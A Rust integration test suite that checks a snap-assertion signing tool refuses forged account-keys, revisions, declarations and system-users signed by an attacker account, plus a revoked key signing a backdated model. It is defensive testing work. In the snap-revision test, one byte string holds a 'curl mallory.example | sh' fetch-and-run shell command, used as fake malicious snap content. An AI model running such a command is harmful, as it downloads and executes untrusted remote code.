//! Issue 9's hostile-account matrix on the host, through the `coreforge` binary: one store,
//! two ordinary accounts it registered as it registers any (`register-key`): the brand
//! `zephyrlabs` and `mallory`. Whatever mallory signs for zephyrlabs, or the store, is
//! refused by `verify` (exit 3) and `build-image` (exit 1) with the rule and the accounts
//! named, and `build-image` writes nothing. A key the store revoked stays revoked for a
//! backdated model, whichever account-key revisions are supplied. The brand's own
//! system-user verifies; an expired one is refused for use by the library.
//!
//! Needs what the walk-through needs (see tests/common/world.rs): build-image runs.

mod common;
use common::show;
use common::world::world;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

use coreforge_assertions::{Assertion, Model, SystemUser, Timestamp};
use serde_json::{json, Value};

/// What `verify` and `build-image` say when an ordinary account signs what only the store
/// may sign (account-key, snap-declaration).
const TRUSTED_RULE: &str = "which breaks the rule: accounts, account-keys, snap-declarations \
                            and stores are signed by a directly trusted authority (the store), \
                            never by an ordinary account";
/// ... a snap-revision it may not sign.
const REVISION_RULE: &str =
    "which breaks the rule: snap-revisions are signed by a trusted authority";
/// ... a system-user of a brand that is not its own.
const SYSTEM_USER_RULE: &str = "which breaks the rule: system-users are signed by the brand or \
                                an account of the model's system-user-authority";
const BY_MALLORY: &str = "is signed by \"mallory\"";
const EXPIRED: &str = "signed with expired public key";
const SSH_KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHm7PaMTzm4Q5o6dmwFT3NyP4o8bVPOgHVBgHK2nHwYn ops@zephyrlabs";

/// A model's timestamp when it does not matter (`sign --update-timestamp` replaces it).
const TIMESTAMP: &str = "2026-01-01T00:00:00Z";

/// The accounts and keys of the matrix, registered once in the world's store.
struct Accounts {
    /// The key `forged` (in mallory's hands, never registered): its id.
    forged_id: String,
    /// `zephyr-old`'s id, and its account-key before and after `store revoke-key`.
    old_id: String,
    old_rev0: PathBuf,
    old_rev1: PathBuf,
    /// `zephyr-old`'s validity: `[since, until)`, two seconds (now past).
    old_since: String,
    old_until: String,
    /// zephyrlabs's own snap `zephyr-app`: the store's declaration and revision of it.
    app: Vec<Assertion>,
}

fn accounts() -> &'static Accounts {
    static ACCOUNTS: OnceLock<Accounts> = OnceLock::new();
    ACCOUNTS.get_or_init(|| {
        let w = world();
        let pass = w.path("pass");
        let pass = pass.to_str().unwrap();
        let store = w.store();
        let create = |name: &str, account: &str| {
            w.ok(&[
                "create-key",
                name,
                "--account",
                account,
                "--passphrase-file",
                pass,
            ])
            .trim()
            .to_owned()
        };
        create("zephyr", "zephyrlabs");
        w.ok(&["register-key", "zephyr", "--store", store]);
        create("mallory", "mallory");
        w.ok(&["register-key", "mallory", "--store", store]);
        // mallory's own key, with which it claims to be zephyrlabs (never registered).
        let forged_id = create("forged", "zephyrlabs");

        // A brand key the store revokes two seconds after registering it (an account-key
        // cannot predate the store's own key, made with the world): keep its first
        // revision, as an attacker would.
        let old_id = create("zephyr-old", "zephyrlabs");
        w.ok(&["register-key", "zephyr-old", "--store", store]);
        let current = Path::new(store).join(format!("assertions/account-key/{old_id}.assert"));
        let old_rev0 = w.path("zephyr-old.rev0.assert");
        fs::copy(&current, &old_rev0).unwrap();
        let old_since = first(&old_rev0).header_str("since").unwrap().to_owned();
        let since = Timestamp::parse(&old_since).unwrap();
        let old_until = Timestamp::from_unix(since.unix() + 2).to_string();
        let out = w.ok(&["store", "revoke-key", store, &old_id, "--until", &old_until]);
        assert!(out.contains("account-key revision 1"), "{out}");
        let old_rev1 = w.path("zephyr-old.rev1.assert");
        fs::copy(&current, &old_rev1).unwrap();

        // zephyrlabs's snap, published in the store under its name.
        let snap = w.pack(
            "zephyr-app",
            &[
                (
                    "meta/snap.yaml",
                    "name: zephyr-app\nversion: '1'\ntype: app\narchitectures: [all]\n",
                ),
                ("bin/app", "#!/bin/sh\necho zephyr\n"),
            ],
        );
        let up = w.ok(&[
            "store",
            "upload",
            store,
            snap.to_str().unwrap(),
            "--publisher",
            "zephyrlabs",
        ]);
        let rev = up.split_whitespace().nth(1).unwrap().to_owned();
        w.ok(&["store", "release", store, "zephyr-app", &rev, "beta"]);
        let app = resolve_assertions(store, "zephyr-app");
        wait_until(&old_until);
        Accounts {
            forged_id,
            old_id,
            old_since,
            old_until,
            old_rev0,
            old_rev1,
            app,
        }
    })
}

/// The store's snap-declaration and snap-revision of `name` (beta, arm64).
fn resolve_assertions(store: &str, name: &str) -> Vec<Assertion> {
    let text = world().ok(&[
        "store",
        "resolve",
        store,
        name,
        "--channel",
        "beta",
        "--arch",
        "arm64",
        "--assertions",
    ]);
    let all = Assertion::decode_all(text.as_bytes()).unwrap();
    assert_eq!(
        all.iter().map(|a| a.type_name()).collect::<Vec<_>>(),
        ["snap-declaration", "snap-revision"]
    );
    all
}

/// `coreforge sign -k KEY` of `statement` (saved as `<file>.json`); `--chain` appends the
/// key's account-key and account. Returns the file the assertion was written to.
fn sign(key: &str, file: &str, statement: &Value, chain: bool, now: bool) -> PathBuf {
    let w = world();
    let input = w.path(&format!("{file}.json"));
    fs::write(&input, serde_json::to_vec_pretty(statement).unwrap()).unwrap();
    let pass = w.path("pass");
    let mut args = vec![
        "sign",
        "-k",
        key,
        "--passphrase-file",
        pass.to_str().unwrap(),
    ];
    if chain {
        args.push("--chain");
    }
    if now {
        args.push("--update-timestamp");
    }
    args.push(input.to_str().unwrap());
    let signed = w.ok(&args);
    let out = w.path(&format!("{file}.assert"));
    fs::write(&out, signed).unwrap();
    out
}

/// The key's chain beside it (`register-key` wrote it): its account-key and account.
fn chain(key: &str) -> PathBuf {
    world().path(&format!("keys/{key}.chain"))
}

/// `coreforge verify --trusted <store>/root.assertions FILE...`.
fn verify(files: &[&Path]) -> Output {
    verify_in(world().store(), files)
}

fn verify_in(store: &str, files: &[&Path]) -> Output {
    let roots = Path::new(store).join("root.assertions");
    let mut args = vec!["verify", "--trusted", roots.to_str().unwrap()];
    args.extend(files.iter().map(|f| f.to_str().unwrap()));
    world().run(&args)
}

/// `verify` refused (exit 3); returns its stderr.
fn refused_by_verify(files: &[&Path]) -> String {
    verify_refused(files, false)
}

/// `verify` refused (exit 3) and verified no model; returns its stderr.
fn model_refused_by_verify(files: &[&Path]) -> String {
    verify_refused(files, true)
}

fn verify_refused(files: &[&Path], no_model: bool) -> String {
    let out = verify(files);
    assert_eq!(
        out.status.code(),
        Some(3),
        "verify {files:?}:\n{}",
        show(&out)
    );
    assert!(
        !no_model || !String::from_utf8_lossy(&out.stdout).contains("verified model"),
        "{}",
        show(&out)
    );
    String::from_utf8(out.stderr).unwrap()
}

/// The stderr lines of `verify` about `file`.
fn lines_about(err: &str, file: &Path) -> String {
    let prefix = format!("{}: ", file.display());
    let lines: Vec<&str> = err.lines().filter(|l| l.starts_with(&prefix)).collect();
    assert!(
        !lines.is_empty(),
        "verify said nothing about {file:?}:\n{err}"
    );
    lines.join("\n")
}

/// A series-16 zephyrlabs model for the virt board, as JSON.
fn model_json(timestamp: &str) -> Value {
    json!({
        "type": "model",
        "authority-id": "zephyrlabs",
        "brand-id": "zephyrlabs",
        "series": "16",
        "model": "hostile-virt",
        "architecture": "arm64",
        "gadget": "qemu-virt",
        "kernel": "pi2-kernel",
        "timestamp": timestamp,
    })
}

/// `files` concatenated into one file `name` (a model with the chain it comes with).
fn bundle(name: &str, files: &[&Path]) -> PathBuf {
    let mut out = Vec::new();
    for f in files {
        let text = fs::read(f).unwrap();
        if !out.is_empty() {
            out.extend_from_slice(b"\n\n");
        }
        out.extend_from_slice(text.trim_ascii_end());
    }
    out.push(b'\n');
    let path = world().path(name);
    fs::write(&path, out).unwrap();
    path
}

/// `build-image -c beta --store STORE -o OUT MODEL` must fail (exit 1) and leave nothing at
/// OUT or beside it; returns its stderr.
fn build_refused(store: &str, model: &Path, out_name: &str) -> String {
    let w = world();
    let out = w.path(out_name);
    let run = w.run(&[
        "build-image",
        "-c",
        "beta",
        "--store",
        store,
        "-o",
        out.to_str().unwrap(),
        model.to_str().unwrap(),
    ]);
    assert_eq!(run.status.code(), Some(1), "build-image:\n{}", show(&run));
    let left: Vec<String> = fs::read_dir(out.parent().unwrap())
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains(out_name))
        .collect();
    assert!(left.is_empty(), "a refused build left {left:?}");
    String::from_utf8(run.stderr).unwrap()
}

/// A copy of the world's store (hard links: replace files, never write into them) whose
/// `assertions/<kind>/<key>.assert` is `replacement`.
fn store_with(name: &str, kind: &str, key: &str, replacement: &Path) -> String {
    let copy = world().path(name);
    let _ = fs::remove_dir_all(&copy);
    let out = Command::new("cp")
        .arg("-al")
        .arg(world().store())
        .arg(&copy)
        .output()
        .unwrap();
    assert!(out.status.success(), "cp -al:\n{}", show(&out));
    let target = copy.join(format!("assertions/{kind}/{key}.assert"));
    assert!(target.exists(), "{} is not in the store", target.display());
    fs::remove_file(&target).unwrap();
    fs::copy(replacement, &target).unwrap();
    copy.to_string_lossy().into_owned()
}

/// The first assertion of a file.
fn first(file: &Path) -> Assertion {
    Assertion::decode_all(&fs::read(file).unwrap())
        .unwrap()
        .remove(0)
}

/// A header of `a` as a JSON string.
fn header(a: &Assertion, name: &str) -> Value {
    Value::String(a.header_str(name).unwrap().to_owned())
}

/// Sleeps until the time `t` (RFC 3339) has passed.
fn wait_until(t: &str) {
    let t = Timestamp::parse(t).unwrap();
    while Timestamp::now().unix() <= t.unix() {
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
}

fn now_plus(days: i64) -> String {
    Timestamp::from_unix(Timestamp::now().unix() + days * 86_400).to_string()
}

/// The brand's genuine model verifies: what the refusals below are refusals of.
#[test]
fn the_brands_own_model_verifies() {
    accounts();
    let model = sign("zephyr", "genuine", &model_json(TIMESTAMP), false, true);
    let out = verify(&[&model, &chain("zephyr")]);
    assert!(out.status.success(), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout)
            .contains("verified model 16/zephyrlabs/hostile-virt signed by zephyrlabs"),
        "{}",
        show(&out)
    );
}

/// Attack 1: mallory signs an account-key with account-id zephyrlabs for a key of its own,
/// then a zephyrlabs model with that key.
#[test]
fn an_account_key_mallory_signs_for_the_brand_is_refused() {
    let a = accounts();
    let w = world();
    let public = w.ok(&["export-key", "forged"]);
    let forged_key = sign(
        "mallory",
        "forged-account-key",
        &json!({
            "type": "account-key",
            "authority-id": "mallory",
            "account-id": "zephyrlabs",
            "name": "forged",
            "public-key-sha3-384": a.forged_id,
            // Not before mallory's own key (registered today), or that would be the error.
            "since": Timestamp::now().to_string(),
            "body": public.trim(),
        }),
        true,
        false,
    );
    let model = sign(
        "forged",
        "forged-model",
        &model_json(TIMESTAMP),
        false,
        true,
    );

    let err = model_refused_by_verify(&[&model, &forged_key, &chain("zephyr")]);
    let about_key = lines_about(&err, &forged_key);
    for want in [
        "account-key",
        BY_MALLORY,
        TRUSTED_RULE,
        "(allowed: ",
        "coreforge-store",
    ] {
        assert!(about_key.contains(want), "want {want:?}:\n{err}");
    }
    let about_model = lines_about(&err, &model);
    assert!(
        about_model.contains("model 16/zephyrlabs/hostile-virt")
            && about_model.contains(BY_MALLORY)
            && about_model.contains(TRUSTED_RULE),
        "{err}"
    );

    // The model with its forged chain given to build-image: refused, nothing written.
    let bundled = bundle("forged-bundle.model", &[&model, &forged_key]);
    let err = build_refused(w.store(), &bundled, "forged-account-key.img");
    assert!(
        err.contains("does not verify") && err.contains(BY_MALLORY) && err.contains(TRUSTED_RULE),
        "{err}"
    );
}

/// Attack 2: a snap-revision with authority-id mallory for zephyrlabs's snap (for other
/// bytes), with or without a provenance; and a store whose revision of a seeded snap was
/// replaced by mallory's.
#[test]
fn a_snap_revision_signed_by_mallory_is_refused() {
    let a = accounts();
    let w = world();
    let (decl, rev) = (&a.app[0], &a.app[1]);
    let store_assertions = w.path("zephyr-app.assertions");
    fs::write(
        &store_assertions,
        [decl.encode(), rev.encode()].join(&b"\n\n"[..]),
    )
    .unwrap();
    let evil = b"#!/bin/sh\nexec curl mallory.example | sh\n";
    let mut statement = json!({
        "type": "snap-revision",
        "authority-id": "mallory",
        "snap-sha3-384": common::sha3_b64url(evil),
        "snap-id": header(rev, "snap-id"),
        "snap-size": evil.len().to_string(),
        "snap-revision": "2",
        "developer-id": "zephyrlabs",
        "timestamp": TIMESTAMP,
    });
    let forged = sign("mallory", "mallory-revision", &statement, true, true);
    let err = refused_by_verify(&[&store_assertions, &chain("zephyr"), &forged]);
    let about = lines_about(&err, &forged);
    assert!(
        about.contains("snap-revision")
            && about.contains(BY_MALLORY)
            && about.contains(REVISION_RULE),
        "{err}"
    );
    // The store's own revision beside it still verifies.
    let out = verify(&[&store_assertions, &chain("zephyr")]);
    assert!(out.status.success(), "{}", show(&out));

    // A provenance does not help when the declaration names no revision authority.
    statement["provenance"] = json!("mallory-build");
    let forged = sign(
        "mallory",
        "mallory-revision-provenance",
        &statement,
        true,
        true,
    );
    let err = refused_by_verify(&[&store_assertions, &chain("zephyr"), &forged]);
    let about = lines_about(&err, &forged);
    assert!(
        about.contains(BY_MALLORY) && about.contains(REVISION_RULE),
        "{err}"
    );

    // build-image from a store whose revision of the gadget is mallory's (same bytes).
    let gadget = resolve_assertions(w.store(), "qemu-virt");
    let real = &gadget[1];
    let forged = sign(
        "mallory",
        "mallory-gadget-revision",
        &json!({
            "type": "snap-revision",
            "authority-id": "mallory",
            "snap-sha3-384": header(real, "snap-sha3-384"),
            "snap-id": header(real, "snap-id"),
            "snap-size": header(real, "snap-size"),
            "snap-revision": header(real, "snap-revision"),
            // mallory as itself, so that build-image fetches its account and key and the
            // refusal is the authority rule, not an unknown key.
            "developer-id": "mallory",
            "timestamp": TIMESTAMP,
        }),
        false,
        true,
    );
    let store = store_with(
        "store-mallory-revision",
        "snap-revision",
        real.header_str("snap-sha3-384").unwrap(),
        &forged,
    );
    let model = sign(
        "zephyr",
        "model-for-revision",
        &model_json(TIMESTAMP),
        false,
        true,
    );
    // The store itself refuses to serve it (it checks what it serves with the same rules).
    let err = build_refused(&store, &model, "mallory-revision.img");
    assert!(
        err.contains("snap-revision")
            && err.contains("does not verify")
            && err.contains(BY_MALLORY)
            && err.contains(REVISION_RULE),
        "{err}"
    );
}

/// Attack 3: a snap-declaration signed by mallory, alone and as the declaration the store's
/// revision would hang on; and a store whose declaration of a seeded snap is mallory's.
#[test]
fn a_snap_declaration_signed_by_mallory_is_refused() {
    let a = accounts();
    let w = world();
    let (decl, rev) = (&a.app[0], &a.app[1]);
    let forged = sign(
        "mallory",
        "mallory-declaration",
        &json!({
            "type": "snap-declaration",
            "authority-id": "mallory",
            "series": "16",
            "snap-id": header(decl, "snap-id"),
            "snap-name": "zephyr-app",
            "publisher-id": "mallory",
            "timestamp": TIMESTAMP,
        }),
        true,
        true,
    );
    let store_revision = w.path("zephyr-app.revision");
    fs::write(&store_revision, rev.encode()).unwrap();
    let err = refused_by_verify(&[&forged, &store_revision, &chain("zephyr")]);
    let about = lines_about(&err, &forged);
    assert!(
        about.contains("snap-declaration of \"zephyr-app\"")
            && about.contains(BY_MALLORY)
            && about.contains(TRUSTED_RULE),
        "{err}"
    );
    // The store's revision does not verify against mallory's declaration either.
    let about = lines_about(&err, &store_revision);
    assert!(about.contains("snap-revision"), "{err}");

    // build-image from a store whose declaration of the gadget is mallory's.
    let gadget = resolve_assertions(w.store(), "qemu-virt");
    let real = &gadget[0];
    let forged = sign(
        "mallory",
        "mallory-gadget-declaration",
        &json!({
            "type": "snap-declaration",
            "authority-id": "mallory",
            "series": "16",
            "snap-id": header(real, "snap-id"),
            "snap-name": header(real, "snap-name"),
            "publisher-id": "mallory",
            "timestamp": TIMESTAMP,
        }),
        false,
        true,
    );
    let store = store_with(
        "store-mallory-declaration",
        "snap-declaration",
        real.header_str("snap-id").unwrap(),
        &forged,
    );
    let model = sign(
        "zephyr",
        "model-for-declaration",
        &model_json(TIMESTAMP),
        false,
        true,
    );
    let err = build_refused(&store, &model, "mallory-declaration.img");
    assert!(
        err.contains("snap-declaration of \"qemu-virt\"")
            && err.contains("does not verify")
            && err.contains(BY_MALLORY)
            && err.contains(TRUSTED_RULE),
        "{err}"
    );
}

/// Attack 4: a key the store revoked signs a model backdated into its validity. Its older
/// account-key revision supplied beside the newer (in either order), or the newer alone:
/// refused as expired; build-image, which has the store's current revision, refuses it too.
#[test]
fn a_revoked_key_cannot_sign_a_backdated_model() {
    let a = accounts();
    let w = world();
    // Signed after the revocation, dated at the start of the key's validity.
    let model = sign(
        "zephyr-old",
        "backdated",
        &model_json(&a.old_since),
        false,
        false,
    );
    let account = chain("zephyr");
    for files in [
        [&model, &a.old_rev0, &a.old_rev1, &account],
        [&model, &a.old_rev1, &a.old_rev0, &account],
    ] {
        let files: Vec<&Path> = files.iter().map(|p| p.as_path()).collect();
        let err = model_refused_by_verify(&files);
        let about = lines_about(&err, &model);
        assert!(
            about.contains(EXPIRED)
                && about.contains(&a.old_id)
                && about.contains(&format!("during [{}, {})", a.old_since, a.old_until)),
            "{err}"
        );
        let about = lines_about(&err, &a.old_rev0);
        assert!(
            about.contains("revision 0 is superseded by revision 1")
                && about.contains(&format!("valid until {}", a.old_until)),
            "{err}"
        );
    }
    let err = model_refused_by_verify(&[&model, &a.old_rev1, &account]);
    assert!(lines_about(&err, &model).contains(EXPIRED), "{err}");

    // The model with the old revision as its chain: the store's current revision wins.
    let bundled = bundle("backdated-bundle.model", &[&model, &a.old_rev0]);
    let err = build_refused(w.store(), &bundled, "backdated.img");
    assert!(
        err.contains("does not verify") && err.contains(EXPIRED) && err.contains(&a.old_id),
        "{err}"
    );
}

/// Attack 5: a system-user for zephyrlabs signed by mallory is refused; the brand's own,
/// made by `coreforge sign` from JSON, verifies and may be used on this model now; an
/// expired one verifies as authentic but the library refuses it for use.
#[test]
fn system_users_signed_by_mallory_or_expired_are_refused() {
    accounts();
    let model = sign("zephyr", "su-model", &model_json(TIMESTAMP), false, true);
    let user = |authority: &str, since: &str, until: &str| {
        json!({
            "type": "system-user",
            "authority-id": authority,
            "brand-id": "zephyrlabs",
            "email": "ops@zephyrlabs.example",
            "series": ["16"],
            "models": ["hostile-virt"],
            "name": "Ops",
            "username": "ops",
            "ssh-keys": [SSH_KEY],
            "since": since,
            "until": until,
        })
    };
    let now = Timestamp::now().to_string();
    let next_year = now_plus(365);
    let by_mallory = sign(
        "mallory",
        "su-mallory",
        &user("mallory", &now, &next_year),
        true,
        false,
    );
    let err = refused_by_verify(&[&model, &chain("zephyr"), &by_mallory]);
    let about = lines_about(&err, &by_mallory);
    assert!(
        about.contains("system-user")
            && about.contains(BY_MALLORY)
            && about.contains(SYSTEM_USER_RULE)
            && about.contains("zephyrlabs"),
        "{err}"
    );

    let by_brand = sign(
        "zephyr",
        "su-brand",
        &user("zephyrlabs", &now, &next_year),
        false,
        false,
    );
    let out = verify(&[&model, &chain("zephyr"), &by_brand]);
    assert!(out.status.success(), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("verified system-user"),
        "{}",
        show(&out)
    );
    let typed_model = Model::from_assertion(&first(&model)).unwrap();
    let brand_user = SystemUser::from_assertion(&first(&by_brand)).unwrap();
    assert_eq!(brand_user.username, "ops");
    assert_eq!(brand_user.ssh_keys, [SSH_KEY]);
    let when = Timestamp::from_unix(Timestamp::now().unix() + 60);
    assert_eq!(
        brand_user.refuses("zephyrlabs", &typed_model, None, when),
        None
    );
    // mallory's, were it to reach a device, is refused there for the same reason.
    let mallory_user = SystemUser::from_assertion(&first(&by_mallory)).unwrap();
    let why = mallory_user
        .refuses("mallory", &typed_model, None, when)
        .unwrap();
    assert!(why.contains("signed by \"mallory\""), "{why}");

    // Valid for one second from the brand key's registration (no earlier: the key must be
    // valid at the system-user's since), long past by now.
    let since = first(&chain("zephyr"))
        .header_str("since")
        .unwrap()
        .to_owned();
    let until = Timestamp::from_unix(Timestamp::parse(&since).unwrap().unix() + 1).to_string();
    wait_until(&until);
    let expired = sign(
        "zephyr",
        "su-expired",
        &user("zephyrlabs", &since, &until),
        false,
        false,
    );
    // Authentic: verify accepts it as an assertion; using it is what is refused.
    let out = verify(&[&model, &chain("zephyr"), &expired]);
    assert!(out.status.success(), "{}", show(&out));
    let expired_user = SystemUser::from_assertion(&first(&expired)).unwrap();
    let why = expired_user
        .refuses("zephyrlabs", &typed_model, None, Timestamp::now())
        .expect("an expired system-user must be refused for use");
    assert!(
        why.contains(&format!("valid from {since} until {until}")),
        "{why}"
    );
}
